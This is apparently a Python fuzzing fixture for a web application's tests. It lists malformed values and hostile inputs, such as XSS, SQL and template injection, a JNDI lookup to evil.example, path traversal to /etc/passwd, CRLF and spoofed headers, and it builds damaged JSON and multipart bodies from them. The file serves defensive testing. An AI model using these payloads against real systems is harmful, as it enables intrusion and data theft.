"""What a fuzzer writes: values that break parsers, and values that nearly pass."""

from __future__ import annotations

import functools
import io
import json
import random
from collections.abc import Callable, Sequence

from tests.fakes.pictures import as_file, qr_picture

MARKUP = '"><svg/onload=assay()>'
"""Must never come back as markup."""
SEGMENTS = (
    b"",
    b".",
    b"..",
    b"%2e%2e",
    b"%2F",
    b"%2f..%2f",
    b"%5c",
    b"%00",
    b"%0d%0aSet-Cookie:%20a=b",
    b"%ff%fe",
    b"%ed%a0%80",
    b"%F0%9F%92%8E",
    b"%E2%80%AE",
    b"%",
    b"%zz",
    b"%25",
    b"a" * 300,
    b"9" * 40,
    b"-1",
    b"0",
    b"1e9",
    b"NaN",
    b"null",
    b"%27%20OR%201=1--",
    b"%7B%7B7*7%7D%7D",
    b"%22%3E%3Csvg/onload=assay()%3E",
    b"{a}",
    b"*",
    b"~",
    b";x=1",
    b"@evil.example",
    b"//evil.example",
    b"\xff",
)
TEXTS = (
    "",
    " ",
    "0",
    "-1",
    "1",
    "9" * 400,
    "1e400",
    "NaN",
    "true",
    "null",
    "\0",
    "a\0b",
    "\r\nSet-Cookie: a=b",
    "é" * 40,
    "💎" * 40,
    "\u202egnp.exe",
    "\ud800",
    "A" * 5_000,
    MARKUP,
    "' OR 1=1 --",
    "{{7*7}}",
    "${jndi:ldap://evil.example/a}",
    "%s%n%x",
    "../../etc/passwd",
    "//evil.example",
    "/\\evil.example",
    "https://evil.example/",
    "javascript:alert(1)",
    "2026-13-45",
    "2026-02-30T25:61:61Z",
    "[]",
    '{"a":1}',
    "fr",
    "en",
    "all",
)
PLAUSIBLE = (
    "Aurore 25",
    "AUR-BAG-0001",
    "09521321000018",
    "GZC8P203Q38TZ3CK9Z3R",
    "7KQ2M9X4T8VJ3B6NW5RCD1EFGHA",
    "2026-01-15",
    "12:30",
    "FR",
    "48.85",
    "1",
    "on",
    "Nora Vidal",
    "Cut and assembled by hand",
    "leather",
)
"""What a form might be filled with by somebody who means it."""
ACCEPTS = (
    "",
    "*/*",
    "text/html",
    "application/json",
    "application/problem+json",
    "application/linkset+json",
    "application/vnd.ipld.car",
    "application/vnd.ipld.raw",
    "image/png",
    "text/html;q=0",
    "a/b;q=nan, */*;q=-1",
    "text/html;" * 200,
    "\xff/\xff",
)
HEADERS: dict[str, Sequence[str]] = {
    "Accept-Language": ("fr", "en;q=0.1", "xx-YY-zz", "*", "fr;q=abc", "\xff", "en," * 500),
    "Accept-Encoding": ("gzip", "br", "gzip;q=0", "*", "gzip;q=x", ""),
    "Cookie": ("assay=", "assay=x; assay=y", "a" * 4_000, "=;=;=", "assay=\xff", '"'),
    "Range": ("bytes=0-", "bytes=-1", "bytes=5-2", "bytes=0-0,5-6", "lines=1", "bytes=" + "9" * 50 + "-"),
    "If-None-Match": ("*", '"a"', "W/", '"', "a,b,c", '"' * 999),
    "If-Modified-Since": ("x", "Sat, 99 Abc 0000 00:00:00 GMT", "Mon, 01 Jan 0001 00:00:00 GMT"),
    "If-Range": ("x", '"a"', "Mon, 01 Jan 0001 00:00:00 GMT"),
    "Authorization": ("Basic", "Basic !!!", "Bearer \xff", "Digest a=b"),
    "Origin": ("null", "https://evil.example", "", "a", "http://[", "https://" + "a" * 3_000),
    "Sec-Fetch-Site": ("same-origin", "cross-site", "none", "\xff", ""),
    "Referer": ("https://evil.example/", "\xff", "a" * 3_000),
    "User-Agent": ("", "\xff" * 40, "a" * 4_000, MARKUP),
    "X-Forwarded-For": ("1.2.3.4", "a", "::1, b", "\xff"),
    "X-Forwarded-Proto": ("https", "a,b"),
    "X-CSRF-Token": ("", "x", "\xff", "a" * 4_000),
    "X-Requested-With": ("XMLHttpRequest",),
    "Service-Worker": ("script",),
    "Forwarded": ("for=1.2.3.4;host=evil.example",),
    "X-Original-Url": ("/console",),
    "X-Http-Method-Override": ("DELETE",),
    "Content-Encoding": ("gzip", "br"),
    "Expect": ("100-continue", "x"),
    "Host": ("evil.example", "", "a b", "[::1", "localhost:99999", "\xff"),
}
CONTENT_TYPES = (
    "application/x-www-form-urlencoded",
    "application/json",
    "application/json; charset=utf-7",
    "multipart/form-data",
    "multipart/form-data; boundary=" + "b" * 200,
    "multipart/form-data; boundary=\xff",
    "text/plain",
    "text/xml",
    "",
    "\xff",
    "application/x-www-form-urlencoded; charset=" + "x" * 300,
)
FILE_NAMES = ("a.jpg", "", "../../a", "a\0.png", "é" * 300, MARKUP, ".", "con.svg")


@functools.cache
def files() -> list[bytes]:
    """Pictures that are some, nearly are, and are none."""
    picture = as_file(qr_picture("https://evil.example/01/09521321000018/21/X"))
    return [
        b"",
        b"\xff\xd8\xff",
        picture,
        picture[: len(picture) // 2],
        b"\x89PNG\r\n\x1a\n" + b"\0" * 200,
        b"GIF89a" + b"\xff" * 50,
        b"RIFF\xff\xff\xff\xffWEBPVP8 " + b"\0" * 60,
        b"<svg xmlns='http://www.w3.org/2000/svg' onload='assay()'/>",
        b"%PDF-1.7",
        b"\0" * 70_000,
    ]


def nested(rng: random.Random) -> bytes:
    """Write JSON that nests deeper than any parser likes, or repeats its names."""
    return rng.choice(
        (
            b"[" * 60_000,
            b'{"a":' * 20_000 + b"1" + b"}" * 20_000,
            b'{"a":1,"a":2}',
            b'"' + b"\\ud800" * 9 + b'"',
            b"1" * 5_000,
            b"-",
            b"NaN",
            b"\xef\xbb\xbf{}",
            b"\xff\xfe{\0}\0",
        )
    )


def json_body(rng: random.Random, names: Sequence[str], text: Callable[[], str]) -> bytes:
    """Write an object of names that are asked for, with values of every type."""

    def value(depth: int) -> object:
        kinds = (text, lambda: rng.randint(-(2**70), 2**70), lambda: None, lambda: rng.random() < 0.5, lambda: 1e308)
        if depth and rng.random() < 0.4:
            inner = [value(depth - 1) for _ in range(rng.randint(0, 3))]
            return inner if rng.random() < 0.5 else {rng.choice(names) if names else "a": part for part in inner}
        return rng.choice(kinds)()

    whole = {rng.choice(names) if names else text(): value(3) for _ in range(rng.randint(0, 6))}
    return json.dumps(value(2) if rng.random() < 0.2 else whole).encode("utf-8", "surrogatepass")


def multipart(rng: random.Random, fields: Sequence[tuple[str, str]], file_fields: Sequence[str]) -> tuple[bytes, str]:
    """Write a form with files, sometimes damaged; gives it with its content type."""
    boundary = "assayboundary"
    body = io.BytesIO()
    for name, text in fields:
        head = f'--{boundary}\r\nContent-Disposition: form-data; name="{name}"\r\n\r\n{text}\r\n'
        body.write(head.encode("utf-8", "surrogatepass"))
    for name in file_fields:
        file_name = rng.choice(FILE_NAMES)
        head = f'--{boundary}\r\nContent-Disposition: form-data; name="{name}"; filename="{file_name}"\r\n'
        body.write((head + f"Content-Type: {rng.choice(('image/jpeg', 'text/html', ''))}\r\n\r\n").encode())
        body.write(rng.choice(files()) + b"\r\n")
    body.write(f"--{boundary}--\r\n".encode())
    content = body.getvalue()
    if rng.random() < 0.2:
        content = content[: rng.randint(0, len(content))]
    return content, f"multipart/form-data; boundary={boundary}"
